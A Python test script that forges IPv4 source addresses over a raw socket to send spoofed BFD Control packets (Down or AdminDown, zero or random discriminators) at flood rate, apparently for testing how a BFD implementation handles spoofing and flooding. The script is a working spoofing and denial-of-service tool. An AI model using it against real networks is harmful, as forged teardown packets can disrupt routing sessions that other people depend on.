#!/usr/bin/env python3
"""Hand-made BFD Control packets (RFC 5880 §4.1) from a forged IPv4 source, for the BFD
spoofing and flooding tests.

    bfd_spoof.py SRC DST KIND COUNT [SECONDS]

Builds each packet down to the IP header (raw socket, IP_HDRINCL), so SRC may be an address
the sending namespace does not own: a stranger on the segment pretending to be the peer.
TTL is 255, so the RFC 5881 §5 check passes. KIND is one of

    down-zero       state Down, Your Discriminator 0 (what a spoofer can send without
                    knowing the session's discriminator)
    admindown-zero  state AdminDown, Your Discriminator 0
    down-random     state Down, a random nonzero Your Discriminator each time
    mixed           the three above in turn

COUNT packets are sent as fast as possible, stopping early after SECONDS (default 5).
Prints one JSON line: {"sent": N, "seconds": S}.
"""
import json
import random
import socket
import struct
import sys
import time

DOWN, ADMIN_DOWN = 1, 0


def bfd(state, your):
    my = random.randrange(1, 2**32)
    flags = state << 6
    # Vers 1 / Diag 0, flags, Detect Mult 3, Length 24, discriminators, intervals.
    return struct.pack("!BBBBIIIII", 0x20, flags, 3, 24, my, your, 1000000, 1000000, 0)


def datagram(src, dst, payload):
    sport = random.randrange(49152, 65536)
    udp = struct.pack("!HHHH", sport, 3784, 8 + len(payload), 0) + payload  # IPv4: checksum 0 allowed
    # The kernel fills in the total length, the identification and the header checksum.
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0xC0, 0, 0, 0, 255, socket.IPPROTO_UDP, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )
    return ip + udp


def main():
    src, dst, kind, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    seconds = float(sys.argv[5]) if len(sys.argv) > 5 else 5.0
    kinds = {
        "down-zero": [lambda: bfd(DOWN, 0)],
        "admindown-zero": [lambda: bfd(ADMIN_DOWN, 0)],
        "down-random": [lambda: bfd(DOWN, random.randrange(1, 2**32))],
    }
    kinds["mixed"] = [k[0] for k in kinds.values()]
    makers = kinds[kind]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    sent = 0
    while sent < count and time.monotonic() - start < seconds:
        packet = datagram(src, dst, makers[sent % len(makers)]())
        try:
            s.sendto(packet, (dst, 0))
            sent += 1
        except BlockingIOError:
            time.sleep(0.001)
        except OSError as e:
            if e.errno == 105:  # ENOBUFS: the device queue is full; let it drain
                time.sleep(0.001)
            else:
                raise
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}))


if __name__ == "__main__":
    main()
